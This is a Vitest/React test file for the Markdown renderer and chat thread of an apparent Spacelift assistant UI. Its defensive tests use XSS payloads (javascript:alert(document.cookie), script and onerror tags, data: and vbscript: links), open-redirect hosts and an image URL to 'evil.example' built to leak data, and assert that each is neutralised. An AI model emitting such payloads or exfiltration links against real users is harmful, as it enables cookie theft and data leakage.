// @vitest-environment happy-dom
// @vitest-environment-options {"url": "https://app.spacelift.io/stack/prod-network"}
import { act, type ReactNode } from 'react';
import { createRoot, type Root } from 'react-dom/client';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { refractor } from 'refractor/core';
import type { UIMessage } from 'ai';
import { Markdown, classifyLink } from './Markdown';
import { Thread } from './Thread';
import { createBlockSplitter, splitMarkdownBlocks } from '../hooks/useMarkdownBlocks';

(globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;

const mounted: Root[] = [];
function render(node: ReactNode) {
  const container = document.createElement('div');
  document.body.append(container);
  const root = createRoot(container);
  mounted.push(root);
  act(() => root.render(node));
  return { container, rerender: (next: ReactNode) => act(() => root.render(next)) };
}
afterEach(() => {
  for (const root of mounted.splice(0)) act(() => root.unmount());
  document.body.innerHTML = '';
  vi.restoreAllMocks();
});

const noop = () => {};

/**
 * Click like a user and tell whether the app prevented the default action. The
 * browser's default (following the link) is then prevented all the same:
 * happy-dom would otherwise open the URL.
 */
function click(element: Element, init: MouseEventInit = {}): { appPrevented: boolean } {
  let appPrevented = false;
  const observe = (event: Event) => {
    appPrevented = event.defaultPrevented;
    event.preventDefault();
  };
  window.addEventListener('click', observe);
  try {
    act(() => element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, button: 0, ...init })));
  } finally {
    window.removeEventListener('click', observe);
  }
  return { appPrevented };
}

const RICH = `## Failed stacks

Two stacks failed. **prod-eks** failed at \`terraform apply\`:

| Stack | State | Commit |
|---|---|---|
| [prod-eks](/stack/prod-eks) | FAILED | \`abc123\` |
| dev-vpc | FINISHED | \`def456\` |

\`\`\`hcl
resource "aws_s3_bucket" "logs" {
  bucket = "prod-logs" # the name
  count  = 2
}
\`\`\`

- one, see [the docs](https://docs.spacelift.io/concepts/stack)
- two

  still two
- three
  1. nested

> A quote
continued lazily

Done.
`;

/** Constructs whose meaning changes as more text arrives. */
const EDGE = `Title
=====

A paragraph
---

- [x] done
- [ ] todo

3. three
4. four

Text right after
| a | b |
|---|---|
| 1 | 2 |

    indented code

~~~yaml
key: value
~~~

<details>
<summary>raw</summary>
</details>

Footnote[^1] and [ref][r].

[^1]: The note.

[r]: https://docs.spacelift.io/

* * *
Last **bold _nested \`code\` here_ end**
`;

describe('Markdown rendering', () => {
  it('renders a GFM table inside a horizontally scrolling wrapper', () => {
    const { container } = render(<Markdown text={'| Stack | State |\n|---|---|\n| prod-eks | FAILED |\n'} onNavigate={noop} />);
    const table = container.querySelector('.ia-table-wrap > table');
    expect(table).not.toBeNull();
    expect([...table!.querySelectorAll('th')].map((th) => th.textContent)).toEqual(['Stack', 'State']);
    expect([...table!.querySelectorAll('td')].map((td) => td.textContent)).toEqual(['prod-eks', 'FAILED']);
  });

  it('renders a fenced code block highlighted, with its language class and a Copy button', async () => {
    const writeText = vi.fn().mockResolvedValue(undefined);
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    const code = 'resource "aws_s3_bucket" "logs" {\n  bucket = "prod-logs"\n}';
    const { container } = render(<Markdown text={`Here:\n\n\`\`\`terraform\n${code}\n\`\`\`\n`} onNavigate={noop} />);

    const block = container.querySelector('[data-testid="ia-codeblock"]')!;
    const codeEl = block.querySelector('pre > code')!;
    expect(codeEl.className).toBe('language-terraform');
    expect(codeEl.textContent).toBe(code);
    expect(codeEl.querySelector('.token.keyword')?.textContent).toMatch(/^resource /);
    expect(codeEl.querySelector('.token.property')?.textContent).toBe('bucket');
    expect(codeEl.querySelector('.token.string')?.textContent).toBe('"logs"');

    const button = block.querySelector('button')!;
    expect(button.textContent).toBe('Copy');
    await act(async () => button.click());
    expect(writeText).toHaveBeenCalledWith(code);
    expect(button.textContent).toBe('Copied');
  });

  it('says so when the clipboard refuses', async () => {
    Object.defineProperty(navigator, 'clipboard', { value: { writeText: vi.fn().mockRejectedValue(new Error('denied')) }, configurable: true });
    const { container } = render(<Markdown text={'```\nplain\n```'} onNavigate={noop} />);
    const button = container.querySelector('.ia-copy') as HTMLButtonElement;
    await act(async () => button.click());
    expect(button.textContent).toBe('Copy failed');
  });

  it('highlights json, yaml, bash, graphql and rego, and leaves unknown languages as plain text', () => {
    const samples: Record<string, string> = {
      json: '{"a": 1}',
      yaml: 'key: value',
      bash: 'echo "hi"',
      graphql: 'query { stacks { id } }',
      rego: 'package spacelift\ndeny["no"] { true }',
      cobol: 'DISPLAY "HI".',
    };
    const text = Object.entries(samples).map(([lang, code]) => `\`\`\`${lang}\n${code}\n\`\`\``).join('\n\n');
    const { container } = render(<Markdown text={text} onNavigate={noop} />);
    const codes = [...container.querySelectorAll('pre > code')];
    expect(codes.map((c) => c.className)).toEqual(Object.keys(samples).map((lang) => `language-${lang}`));
    expect(codes.slice(0, 5).every((c) => c.querySelector('.token'))).toBe(true);
    expect(codes[5]!.querySelector('.token')).toBeNull();
    expect(codes[5]!.textContent).toBe(samples.cobol);
  });

  it('renders inline code, emphasis, lists and headings', () => {
    const { container } = render(<Markdown text={RICH} onNavigate={noop} />);
    expect(container.querySelector('p code')?.textContent).toBe('terraform apply');
    expect(container.querySelector('strong')?.textContent).toBe('prod-eks');
    expect(container.querySelector('h2')?.textContent).toBe('Failed stacks');
    expect(container.querySelectorAll('ul > li')).toHaveLength(3);
    expect(container.querySelector('ul li ol li')?.textContent).toBe('nested');
    expect(container.querySelector('blockquote')?.textContent).toContain('continued lazily');
  });

  it('does not read a single ~ as strikethrough', () => {
    const { container } = render(<Markdown text={'It takes ~5 min to ~10 min, ~~not this~~.'} onNavigate={noop} />);
    expect(container.querySelectorAll('del')).toHaveLength(1);
    expect(container.querySelector('del')?.textContent).toBe('not this');
  });
});

describe('Markdown links', () => {
  it('a same-origin path navigates in the app, not in a new tab', () => {
    const onNavigate = vi.fn();
    const { container } = render(<Markdown text={'Open [prod-eks](/stack/prod-eks).'} onNavigate={onNavigate} />);
    const link = container.querySelector('a')!;
    expect(link.getAttribute('target')).toBeNull();
    expect(link.getAttribute('href')).toBe('https://app.spacelift.io/stack/prod-eks');
    expect(click(link).appPrevented).toBe(true);
    expect(onNavigate).toHaveBeenCalledWith('/stack/prod-eks');
  });

  it('a full URL on the same origin navigates in the app with its query and hash', () => {
    const onNavigate = vi.fn();
    const { container } = render(
      <Markdown text={'See https://app.spacelift.io/stack/prod-eks/run/01H?tab=logs#plan'} onNavigate={onNavigate} />,
    );
    click(container.querySelector('a')!);
    expect(onNavigate).toHaveBeenCalledWith('/stack/prod-eks/run/01H?tab=logs#plan');
  });

  it('a modified click on an in-app link keeps its browser meaning', () => {
    const onNavigate = vi.fn();
    const { container } = render(<Markdown text={'[runs](/runs)'} onNavigate={onNavigate} />);
    expect(click(container.querySelector('a')!, { ctrlKey: true }).appPrevented).toBe(false);
    expect(onNavigate).not.toHaveBeenCalled();
  });

  it('an external link opens in a new tab with rel=noopener noreferrer', () => {
    const onNavigate = vi.fn();
    const { container } = render(
      <Markdown text={'Read [the docs](https://docs.spacelift.io/concepts/stack) or //evil.example/x.'} onNavigate={onNavigate} />,
    );
    const link = container.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://docs.spacelift.io/concepts/stack');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(click(link).appPrevented).toBe(false);
    expect(onNavigate).not.toHaveBeenCalled();
  });

  it('javascript:, data:, mailto: and #anchor links render as plain text', () => {
    const text = [
      '[one](javascript:alert(1))',
      '[two](JaVaScRiPt:alert(document.cookie))',
      '<javascript:alert(1)>',
      '[three](data:text/html;base64,PHNjcmlwdD4=)',
      '[four](mailto:ops@example.com)',
      '[five](#section)',
      '[six](vbscript:msgbox)',
    ].join('\n\n');
    const { container } = render(<Markdown text={text} onNavigate={noop} />);
    expect(container.querySelectorAll('a')).toHaveLength(0);
    for (const word of ['one', 'two', 'three', 'four', 'five', 'six']) expect(container.textContent).toContain(word);
  });

  it('an image is not loaded: it shows as a link', () => {
    const { container } = render(<Markdown text={'![graph](https://evil.example/leak.png?data=secret)'} onNavigate={noop} />);
    expect(container.querySelector('img')).toBeNull();
    const link = container.querySelector('a')!;
    expect(link.textContent).toBe('Image: graph');
    expect(link.getAttribute('target')).toBe('_blank');
  });
});

describe('classifyLink', () => {
  const base = 'https://app.spacelift.io/stack/prod-network';
  it.each([
    ['/stack/prod-eks', { kind: 'internal', path: '/stack/prod-eks' }],
    ['  /runs  ', { kind: 'internal', path: '/runs' }],
    ['https://app.spacelift.io/stacks?q=eks#top', { kind: 'internal', path: '/stacks?q=eks#top' }],
    ['https://docs.spacelift.io/', { kind: 'external' }],
    ['http://app.spacelift.io/stacks', { kind: 'external' }], // another scheme is another origin
    ['//evil.example/x', { kind: 'external' }],
    ['/\\evil.example/x', { kind: 'external' }],
    ['javascript:alert(1)', { kind: 'none' }],
    [' javascript:alert(1)', { kind: 'none' }],
    ['data:text/html,x', { kind: 'none' }],
    ['#anchor', { kind: 'none' }],
    ['', { kind: 'none' }],
    [undefined, { kind: 'none' }],
  ])('%s', (href, expected) => {
    expect(classifyLink(href, base)).toMatchObject(expected);
  });
});

describe('untrusted HTML', () => {
  it('raw HTML is shown as text, never as elements', () => {
    const text = 'Hi <img src=x onerror="alert(1)"> there\n\n<script>alert(2)</script>\n\n<div onclick="x()">block</div>\n\n<a href="javascript:alert(3)">a</a>';
    for (const streaming of [false, true]) {
      const { container } = render(<Markdown text={text} streaming={streaming} onNavigate={noop} />);
      expect(container.querySelector('img, script, div[onclick], a, [onerror]')).toBeNull();
      expect(container.textContent).toContain('<img src=x onerror="alert(1)">');
    }
  });
});

describe('streaming', () => {
  it.each([
    ['a rich answer', RICH],
    ['edge cases', EDGE],
  ])('renders every prefix of %s without an error', (_name, doc) => {
    const errors = vi.spyOn(console, 'error');
    const { container, rerender } = render(<Markdown text="" streaming onNavigate={noop} />);
    for (let end = 1; end <= doc.length; end += 1) {
      rerender(<Markdown text={doc.slice(0, end)} streaming onNavigate={noop} />);
    }
    rerender(<Markdown text={doc} onNavigate={noop} />);
    expect(errors).not.toHaveBeenCalled();
    expect(container.querySelector('.ia-md-plain')).toBeNull(); // no block fell back to plain text
    expect(container.querySelector('table')).not.toBeNull();
    expect(container.querySelector('pre > code')).not.toBeNull();
  });

  it('an unclosed code fence renders as a code block of what has arrived', () => {
    const { container } = render(<Markdown text={'Plan:\n\n```hcl\nresource "a" "b" {\n  x = 1'} streaming onNavigate={noop} />);
    const code = container.querySelector('pre > code.language-hcl');
    expect(code?.textContent).toBe('resource "a" "b" {\n  x = 1');
    expect(container.querySelector('.ia-copy')).not.toBeNull();
  });

  it('half a table renders as text, then as a table once its delimiter row arrives', () => {
    const { container, rerender } = render(<Markdown text={'| Stack | State |\n|--'} streaming onNavigate={noop} />);
    expect(container.querySelector('table')).toBeNull();
    expect(container.textContent).toContain('Stack');
    rerender(<Markdown text={'| Stack | State |\n|---|---|\n| prod-e'} streaming onNavigate={noop} />);
    expect(container.querySelector('td')?.textContent).toBe('prod-e');
  });

  it('closes half-written emphasis, code and links while streaming, and not once done', () => {
    const text = 'The **prod-eks stack ran `terraform pl';
    const { container, rerender } = render(<Markdown text={text} streaming onNavigate={noop} />);
    expect(container.querySelector('strong')?.textContent).toContain('prod-eks stack');
    expect(container.querySelector('code')?.textContent).toBe('terraform pl');
    rerender(<Markdown text={'See [the stack](/stack/prod-e'} streaming onNavigate={noop} />);
    expect(container.querySelector('a')).toBeNull();
    expect(container.textContent).toBe('See the stack');
    rerender(<Markdown text={text} onNavigate={noop} />);
    expect(container.querySelector('strong')).toBeNull();
  });

  it('does not re-render finished blocks as the last one grows', () => {
    const highlight = vi.spyOn(refractor, 'highlight');
    const head = 'Intro\n\n```json\n{"a": 1}\n```\n\nAnd then';
    const { rerender } = render(<Markdown text={head} streaming onNavigate={noop} />);
    expect(highlight).toHaveBeenCalledTimes(1);
    for (const more of [' some', ' more', ' words', ' **bold**', '\n\n| a |\n|---|\n| 1 |']) {
      rerender(<Markdown text={(head + more)} streaming onNavigate={noop} />);
    }
    expect(highlight).toHaveBeenCalledTimes(1);
  });
});

describe('block splitting', () => {
  it('splits at top-level blocks and keeps a loose list whole', () => {
    expect(splitMarkdownBlocks(RICH)).toEqual([
      '## Failed stacks',
      'Two stacks failed. **prod-eks** failed at `terraform apply`:',
      expect.stringMatching(/^\| Stack[\s\S]*def456` \|$/),
      expect.stringMatching(/^```hcl[\s\S]*```$/),
      expect.stringMatching(/^- one[\s\S]*nested$/),
      '> A quote\ncontinued lazily',
      'Done.\n',
    ]);
  });

  it.each([
    ['a rich answer', RICH],
    ['edge cases', EDGE],
  ])('splitting %s as it grows gives the same blocks as splitting it whole', (_name, doc) => {
    const split = createBlockSplitter();
    for (let end = 0; end <= doc.length; end++) {
      const prefix = doc.slice(0, end);
      expect(split(prefix), JSON.stringify(prefix)).toEqual(splitMarkdownBlocks(prefix));
    }
  });

  it('renders the edge cases as a whole document would', () => {
    const { container } = render(<Markdown text={EDGE} onNavigate={noop} />);
    expect(container.querySelector('h1')?.textContent).toBe('Title');
    expect(container.querySelector('h2')?.textContent).toBe('A paragraph'); // setext, not a rule
    expect(container.querySelectorAll('input[type="checkbox"]')).toHaveLength(2);
    expect(container.querySelector('ol')?.getAttribute('start')).toBe('3');
    expect(container.querySelector('td')?.textContent).toBe('1');
    expect(container.querySelector('.language-yaml')?.textContent).toBe('key: value');
    expect(container.querySelector('details')).toBeNull();
    expect(container.textContent).toContain('<summary>raw</summary>');
    expect(container.querySelector('a[href="https://docs.spacelift.io/"]')?.textContent).toBe('ref');
    expect(container.textContent).toContain('[^1]: The note.'); // a footnote stays readable as text
    expect(container.querySelector('hr')).not.toBeNull();
    expect(container.querySelector('strong em code')?.textContent).toBe('code');
  });

  it('starts over when the text is not a continuation', () => {
    const split = createBlockSplitter();
    split('First\n\nSecond');
    expect(split('Other\n\nText')).toEqual(['Other', 'Text']);
  });

  it('resolves reference links across blocks, and keeps definitions out of code', () => {
    const text = 'See [the docs][d].\n\n```\ncode [x]\n```\n\n[d]: https://docs.spacelift.io/';
    expect(splitMarkdownBlocks(text)).toEqual(['See [the docs][d].\n\n[d]: https://docs.spacelift.io/', '```\ncode [x]\n```']);
    const { container } = render(<Markdown text={text} onNavigate={noop} />);
    expect(container.querySelector('a')?.getAttribute('href')).toBe('https://docs.spacelift.io/');
    expect(container.querySelector('code')?.textContent).toBe('code [x]');
  });
});

describe('Thread', () => {
  const user: UIMessage = { id: 'u1', role: 'user', parts: [{ type: 'text', text: 'What **failed**?' }] };
  const answer = (text: string, state: 'streaming' | 'done' = 'done'): UIMessage => ({
    id: 'a1',
    role: 'assistant',
    parts: [{ type: 'text', text, state }],
  });

  it("renders the answer as markdown and the user's text as typed", () => {
    const { container } = render(<Thread messages={[user, answer('**prod-eks** failed.')]} status="ready" />);
    const [question, reply] = [...container.querySelectorAll('[data-message-id]')];
    expect(question!.querySelector('strong')).toBeNull();
    expect(question!.querySelector('.ia-text')?.textContent).toBe('What **failed**?');
    expect(reply!.querySelector('.ia-text strong')?.textContent).toBe('prod-eks');
  });

  it('hands same-origin links to onNavigate', () => {
    const onNavigate = vi.fn();
    const { container } = render(<Thread messages={[user, answer('Open [it](/stack/prod-eks).')]} status="ready" onNavigate={onNavigate} />);
    click(container.querySelector('a')!);
    expect(onNavigate).toHaveBeenCalledWith('/stack/prod-eks');
  });

  it('a streaming answer does not re-render earlier messages, even with a new onNavigate each render', () => {
    const highlight = vi.spyOn(refractor, 'highlight');
    const earlier: UIMessage = { id: 'a0', role: 'assistant', parts: [{ type: 'text', text: '```json\n{}\n```', state: 'done' }] };
    const onNavigate = vi.fn();
    const { container, rerender } = render(<Thread messages={[earlier, user, answer('Wor', 'streaming')]} status="streaming" onNavigate={(p) => onNavigate(p)} />);
    expect(highlight).toHaveBeenCalledTimes(1);
    for (const text of ['Working', 'Working on [it](/runs)', 'Working on [it](/runs).']) {
      rerender(<Thread messages={[earlier, user, answer(text, 'streaming')]} status="streaming" onNavigate={(p) => onNavigate(p)} />);
    }
    expect(highlight).toHaveBeenCalledTimes(1);
    click(container.querySelector('a')!);
    expect(onNavigate).toHaveBeenCalledWith('/runs');
  });
});
